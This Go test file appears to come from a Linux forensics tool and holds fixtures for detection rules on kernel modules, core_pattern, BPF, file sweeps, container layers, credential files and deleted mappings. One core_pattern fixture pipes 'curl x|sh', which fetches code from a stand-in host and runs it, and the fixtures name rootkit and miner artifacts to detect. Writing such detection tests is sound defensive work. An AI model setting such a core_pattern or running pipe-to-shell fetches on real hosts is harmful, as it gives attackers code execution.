package findings

import (
	"time"

	"github.com/cordon-forensics/cordon/formats/filetimeline"
	"github.com/cordon-forensics/cordon/formats/snapshot"
	"github.com/cordon-forensics/cordon/timeline"
)

// The rules over the collector's kernel, sweep, container-layer,
// credential-file and process-files entries, each fed events made by the
// formats' own converters from hand-built records, so that a rule and the
// parser it reads cannot drift apart.

var collectedOrigin = timeline.Origin{Bundle: "EV-1", Entry: "x", ReadAt: t0, Host: "web01"}

func kernelEvents(st snapshot.KernelState) []timeline.Event {
	st.ReadAt = t0
	return snapshot.KernelStateEvents(st, collectedOrigin).Events
}

func module(name, taint, file string) snapshot.KernelModule {
	return snapshot.KernelModule{Name: name, State: "Live", Taint: taint, File: file,
		OutOfTree: taint != "" && taint[0] == 'O', Unsigned: taint == "OE" || taint == "E"}
}

func sweepEv(path, typ string, mode uint32, reasons ...string) timeline.Event {
	r := filetimeline.SweepRecord{Record: filetimeline.Record{Path: path, Type: typ, Mode: mode, Ctime: t0, Mtime: t0}, Reasons: reasons}
	return filetimeline.SweepEvent(r, collectedOrigin, 7, 700)
}

func layerEvs(path string, mode uint32, whiteout bool) []timeline.Event {
	typ := "file"
	if whiteout {
		typ = "char"
	}
	r := filetimeline.LayerRecord{Record: filetimeline.Record{Path: path, Type: typ, Mode: mode, Mtime: t0, Ctime: t0, Atime: t0}, Whiteout: whiteout}
	return filetimeline.LayerEvents(r, "0123456789abcdef", collectedOrigin, 3, 300)
}

func ofAction(action string, evs []timeline.Event) []timeline.Event {
	var out []timeline.Event
	for _, ev := range evs {
		if ev.Event.Action == action {
			out = append(out, ev)
		}
	}
	return out
}

func credEv(path string, mode uint32) timeline.Event {
	return snapshot.CredentialFileEvents([]snapshot.CredentialFile{{Path: path, Kind: "ssh-private-key", Type: "file", Mode: mode, Mtime: t0}}, collectedOrigin).Events[0]
}

func mapEv(target string) timeline.Event {
	return snapshot.MappedFileEvent(snapshot.MappedFile{PID: 4300, StartTicks: 9, Range: "7f00-7f10", Target: target,
		Deleted: len(target) > 10 && target[len(target)-10:] == " (deleted)"}, 1, collectedOrigin, 1, 0)
}

// exeMapEv is a mapping of the process's own executable.
func exeMapEv(target string) timeline.Event {
	return snapshot.MappedFileEvent(snapshot.MappedFile{PID: 4300, StartTicks: 9, Range: "7f00-7f10", Target: target,
		Deleted: true, Executable: true}, 1, collectedOrigin, 1, 0)
}

func kmsgEv(line string) timeline.Event {
	r, ok := snapshot.ParseKmsgLine(line)
	if !ok {
		panic("bad kmsg test line " + line)
	}
	return snapshot.KmsgEvent(r, t0.Add(-time.Hour), collectedOrigin)
}

func init() {
	add := func(id string, pos, neg []timeline.Event) {
		cases[id] = struct{ pos, neg []timeline.Event }{pos, neg}
	}
	add("CORDON-KRN-001",
		kernelEvents(snapshot.KernelState{Modules: []snapshot.KernelModule{module("diamorphine", "OE", ""), module("vboxguest", "O", "/lib/modules/6.1/updates/vboxguest.ko")}})[1:],
		kernelEvents(snapshot.KernelState{Modules: []snapshot.KernelModule{module("ext4", "", "/lib/modules/6.1/kernel/fs/ext4/ext4.ko")}}))
	add("CORDON-KRN-002",
		kernelEvents(snapshot.KernelState{Modules: []snapshot.KernelModule{module("rootkit", "OE", "")}})[1:],
		append(kernelEvents(snapshot.KernelState{Modules: []snapshot.KernelModule{module("ext4", "", "/lib/modules/6.1/kernel/fs/ext4/ext4.ko")}}),
			// modules.dep unreadable: no module can be said missing from it
			kernelEvents(snapshot.KernelState{Modules: []snapshot.KernelModule{module("ext4", "", "")}, Errors: map[string]string{"modules.dep": "no such file"}})...))
	add("CORDON-KRN-003",
		kernelEvents(snapshot.KernelState{Tainted: 12288, TaintedFlags: []string{"O", "E"}, Modules: []snapshot.KernelModule{module("ext4", "", "/lib/modules/x/ext4.ko")}})[:1],
		append(kernelEvents(snapshot.KernelState{Tainted: 12288, TaintedFlags: []string{"O", "E"}, Modules: []snapshot.KernelModule{module("zfs", "OE", "/lib/modules/x/updates/dkms/zfs.ko")}}),
			kernelEvents(snapshot.KernelState{Tainted: 512, TaintedFlags: []string{"W"}})...))
	add("CORDON-KRN-004",
		append(kernelEvents(snapshot.KernelState{CorePattern: "|/tmp/.x/payload %p"}), kernelEvents(snapshot.KernelState{CorePattern: "|/usr/bin/bash -c 'curl x|sh'"})...),
		append(append(kernelEvents(snapshot.KernelState{CorePattern: "|/usr/lib/systemd/systemd-coredump %P %u %g %s %t 9223372036854775808 %h"}),
			kernelEvents(snapshot.KernelState{CorePattern: "|/usr/share/apport/apport -p%p -s%s -c%c -d%d -P%P -u%u -g%g -- %E"})...),
			kernelEvents(snapshot.KernelState{CorePattern: "core"})...))
	add("CORDON-KRN-005",
		kernelEvents(snapshot.KernelState{BinfmtMisc: []snapshot.BinfmtEntry{{Name: "x", Content: "enabled\ninterpreter /dev/shm/.i\nflags: \noffset 0\nmagic 7f454c46\n"}}})[1:],
		kernelEvents(snapshot.KernelState{BinfmtMisc: []snapshot.BinfmtEntry{{Name: "qemu-aarch64", Content: "enabled\ninterpreter /usr/libexec/qemu-binfmt/aarch64-binfmt-P\nflags: POCF\n"}}}))
	add("CORDON-KRN-006",
		kernelEvents(snapshot.KernelState{BPF: snapshot.BPFState{Programs: []snapshot.BPFProgram{{ID: 40, Type: "kprobe", Name: "hide_getdents", LoadedAt: t0}}}})[1:],
		kernelEvents(snapshot.KernelState{BPF: snapshot.BPFState{Programs: []snapshot.BPFProgram{{ID: 3, Type: "cgroup_device", Name: "sd_devices", LoadedAt: t0}}}}))
	add("CORDON-KRN-007",
		[]timeline.Event{kmsgEv("4,812,73000111,-;diamorphine: loading out-of-tree module taints kernel."),
			kmsgEv("4,813,73000222,-;diamorphine: module verification failed: signature and/or required key missing - tainting kernel")},
		[]timeline.Event{kmsgEv("6,1,0,-;Command line: console=ttyS0"), kmsgEv("4,814,73000333,-;Disabling lock debugging due to kernel taint")})

	add("CORDON-FS-001",
		[]timeline.Event{sweepEv("/tmp/.x/bash", "file", 0o4755, "suid"), sweepEv("/home/deploy/tool", "file", 0o755, "capabilities"), sweepEv("/dev/shm/sh", "file", 0o2755, "sgid", "hidden")},
		[]timeline.Event{sweepEv("/usr/bin/passwd", "file", 0o4755, "suid"), sweepEv("/home/shared", "dir", 0o2775, "sgid"), sweepEv("/tmp/.x", "dir", 0o755, "hidden")})
	add("CORDON-FS-002",
		[]timeline.Event{sweepEv("/tmp/.x", "dir", 0o755, "hidden"), sweepEv("/dev/shm/.ICE", "dir", 0o700, "hidden")},
		[]timeline.Event{sweepEv("/tmp/.X11-unix", "dir", 0o1777, "hidden"), sweepEv("/tmp/build/.gitignore", "file", 0o644, "hidden"), sweepEv("/root/.bashrc", "file", 0o644, "hidden")})
	add("CORDON-FS-003",
		[]timeline.Event{sweepEv("/tmp/work/.kworker", "file", 0o755, "hidden"), sweepEv("/var/tmp/.x", "file", 0o700, "hidden")},
		[]timeline.Event{sweepEv("/tmp/.x", "dir", 0o755, "hidden"), sweepEv("/tmp/a/.lock", "file", 0o644, "hidden"), sweepEv("/root/.local", "file", 0o755, "hidden")})
	add("CORDON-FS-004",
		[]timeline.Event{sweepEv("/etc/cron.d/update", "file", 0o644, "immutable"), sweepEv("/root/.ssh/authorized_keys", "file", 0o600, "append-only", "immutable")},
		[]timeline.Event{sweepEv("/var/log/audit/audit.log", "file", 0o600, "append-only"), sweepEv("/etc/cron.d/update", "file", 0o644, "world-writable")})
	add("CORDON-FS-005",
		[]timeline.Event{sweepEv("/usr/local/bin/backup", "file", 0o777, "world-writable")},
		[]timeline.Event{sweepEv("/usr/bin/su", "file", 0o4755, "suid")})
	add("CORDON-CTR-001",
		ofAction("file-ctime", layerEvs("/tmp/xmrig", 0o755, false)),
		append(layerEvs("/var/log/nginx/access.log", 0o644, false), layerEvs("/usr/bin/curl", 0, true)...))
	add("CORDON-CRED-001",
		[]timeline.Event{credEv("/home/deploy/.ssh/id_ed25519", 0o644)},
		[]timeline.Event{credEv("/home/deploy/.ssh/id_ed25519", 0o600), credEv("/etc/ssl/private/ssl-cert-snakeoil.key", 0o640)})
	add("CORDON-PROC-009",
		snapshot.ProcessSummaryEvents(snapshot.ProcessSummary{Finished: t0, Listed: 90, MaskedPIDs: []snapshot.MaskedPID{{PID: 4300, FSType: "tmpfs", Source: "tmpfs", Root: "/"}}}, collectedOrigin).Events[1:],
		snapshot.ProcessSummaryEvents(snapshot.ProcessSummary{Finished: t0, Listed: 90}, collectedOrigin).Events)
	add("CORDON-PROC-010",
		[]timeline.Event{mapEv("/tmp/libhide.so (deleted)"), mapEv("/dev/shm/x (deleted)")},
		[]timeline.Event{mapEv("/usr/lib/x86_64-linux-gnu/libssl.so.3 (deleted)"), mapEv("/memfd:sealed-9117 (deleted)"),
			mapEv("/SYSV00000000 (deleted)"), mapEv("/tmp/libhide.so"), exeMapEv("/tmp/mysql (deleted)")})
}
